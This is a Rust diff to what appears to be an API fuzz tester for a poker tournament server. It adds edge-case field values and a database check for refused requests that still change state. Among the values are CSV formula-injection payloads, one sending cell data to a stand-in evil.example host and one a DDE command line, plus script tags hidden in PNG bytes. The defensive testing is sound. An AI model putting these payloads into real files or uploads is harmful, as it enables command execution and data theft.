@@ -350,13 +350,75 @@ impl Gen<'_> {
                     .collect();
                 for (name, s) in schema["properties"].as_object().into_iter().flatten() {
                     if required.contains(&name.as_str()) || (depth < 3 && self.chance(0.5)) {
-                        let v = self.valid(s, depth + 1);
+                        let v = match self.domain(name) {
+                            Some(v) if self.chance(0.6) => v,
+                            _ => self.valid(s, depth + 1),
+                        };
                         fields.insert(name.clone(), v);
                     }
                 }
                 Value::Object(fields)
             }
         }
+    }
+
+    /// A value a field of this name holds in the room, at and past Felt's limits (issue
+    /// 31): series formulas, CSV files of players, structure drafts, slide images.
+    /// Schema-valid: the schema says only "a string" or "an object".
+    fn domain(&mut self, field: &str) -> Option<Value> {
+        let options: Vec<Value> = match field {
+            "expression" => vec![
+                json!("10 * math::sqrt(entries / place)"),
+                json!(format!("{}place", "-".repeat(40))),
+                json!(format!("{}place", "-".repeat(5_000))),
+                json!(format!("{}place{}", "(".repeat(6_000), ")".repeat(6_000))),
+                json!(format!("{}place{}", "(".repeat(8), ")".repeat(8))),
+                json!("1 / (place - 1)"),
+                json!("random()"),
+            ],
+            "csv" => vec![
+                json!("name,club\nAnn,Reno\n"),
+                json!(
+                    "name\n=HYPERLINK(\"http://evil.example/?d=\"&A1,\"Click\")\n@SUM(1+1)\n+cmd|' /C calc'!A0\n\"\t=1+1\"\n"
+                ),
+                json!("name,club\n\"Ann,Reno\n"),
+                json!(format!("name\n{}", "Zoë Ångström\n".repeat(25_000))),
+                json!(format!("name\n{}\n", "x".repeat(200))),
+            ],
+            "draft" => vec![
+                json!({"name": "Minimal", "weird\nkey": 1}),
+                json!({"name": "Deep", "starting_stack": 9_007_199_254_740_975u64, "table_size": 9,
+                       "levels": [{"stakes": "100/200"}]}),
+                json!({"name": "Big", "starting_stack": 20000, "table_size": 9,
+                       "money": {"currency": "ZZZZ", "buy_in": u64::MAX}}),
+                json!({"name": "Minimal", "starting_stack": 10000, "table_size": 9,
+                       "games": [{"id": "nlh", "name": "No-Limit Hold'em", "family": "flop", "betting": "no-limit"}],
+                       "levels": [{"game": "nlh", "stakes": "100/200"}]}),
+            ],
+            "data" => {
+                let png = |w: u32, h: u32, tail: &[u8]| {
+                    let mut b = b"\x89PNG\r\n\x1a\n".to_vec();
+                    b.extend(13u32.to_be_bytes());
+                    b.extend(b"IHDR");
+                    b.extend(w.to_be_bytes());
+                    b.extend(h.to_be_bytes());
+                    b.extend([8, 6, 0, 0, 0, 0, 0, 0, 0]);
+                    b.extend(0u32.to_be_bytes());
+                    b.extend(b"IEND");
+                    b.extend([0xae, 0x42, 0x60, 0x82]);
+                    b.extend(tail);
+                    json!(b64(&b))
+                };
+                vec![
+                    png(640, 360, b""),
+                    png(60_000, 60_000, b""),
+                    png(640, 360, b"<script>alert(1)</script>"),
+                    json!(b64(b"\x89PNG\r\n\x1a\n<script>alert(1)</script>")),
+                ]
+            }
+            _ => return None,
+        };
+        Some(self.pick(&options).clone())
     }
 
     /// A whole number in `lo..=hi`: mostly small, sometimes at an end of the range.
@@ -1050,6 +1112,53 @@ impl Findings {
     }
 }
 
+/// Base64 of `bytes` (standard alphabet, padded), as a slide upload carries an image.
+fn b64(bytes: &[u8]) -> String {
+    use base64::Engine;
+    base64::engine::general_purpose::STANDARD.encode(bytes)
+}
+
+/// Everything the database holds, as a digest a read would give: every row of every
+/// table, in order. The actions the clock makes due by itself (the lammer deadline, a
+/// level added after the last) are left out: the server logs them when their time comes,
+/// whoever is asking for what.
+fn database_digest(db: &std::path::Path) -> String {
+    use sha2::{Digest, Sha256};
+    let conn = rusqlite::Connection::open_with_flags(
+        db,
+        rusqlite::OpenFlags::SQLITE_OPEN_READ_ONLY | rusqlite::OpenFlags::SQLITE_OPEN_NO_MUTEX,
+    )
+    .expect("open the database to read");
+    conn.busy_timeout(Duration::from_secs(5)).unwrap();
+    let tables: Vec<String> = conn
+        .prepare("SELECT name FROM sqlite_master WHERE type = 'table' ORDER BY name")
+        .unwrap()
+        .query_map([], |r| r.get(0))
+        .unwrap()
+        .map(Result::unwrap)
+        .collect();
+    let mut hash = Sha256::new();
+    for table in tables {
+        hash.update(table.as_bytes());
+        let mut stmt = conn.prepare(&format!("SELECT * FROM \"{table}\"")).unwrap();
+        let columns = stmt.column_count();
+        let mut rows = stmt.query([]).unwrap();
+        while let Some(row) = rows.next().unwrap() {
+            let mut line = String::new();
+            for c in 0..columns {
+                let v: rusqlite::types::Value = row.get(c).unwrap();
+                line.push_str(&format!("{v:?}|"));
+            }
+            let due = table == "log"
+                && (line.contains("lammer_deadline_passed") || line.contains("\"extend\""));
+            if !due {
+                hash.update(line.as_bytes());
+            }
+        }
+    }
+    format!("{:x}", hash.finalize())
+}
+
 /// Sends every operation of the served document its requests; returns what was found.
 fn explore(server: &Server, doc: &Value, seed: u64, per_operation: usize) -> Findings {
     let agent: ureq::Agent = ureq::Agent::config_builder()
@@ -1086,6 +1195,7 @@ fn explore(server: &Server, doc: &Value, seed: u64, per_operation: usize) -> Fin
         for _ in 0..per_operation {
             let req = build(&mut g, op, server);
             findings.requests += 1;
+            let before = database_digest(&server.db);
             let Some(answer) = send(&agent, server, &req) else {
                 findings
                     .by_kind
@@ -1095,6 +1205,20 @@ fn explore(server: &Server, doc: &Value, seed: u64, per_operation: usize) -> Fin
                 continue;
             };
             *findings.statuses.entry(answer.status).or_default() += 1;
+            // A refused request changes nothing: every read is the same after it.
+            if (400..500).contains(&answer.status) && database_digest(&server.db) != before {
+                findings
+                    .by_kind
+                    .entry("a refused request changed the database")
+                    .or_default()
+                    .push(format!(
+                        "{} {} -> {} | {}",
+                        op.method,
+                        op.path,
+                        answer.status,
+                        req.describe()
+                    ));
+            }
             for (kind, detail) in check(doc, op, &req, &answer) {
                 let body: String = String::from_utf8_lossy(&answer.body)
                     .chars()
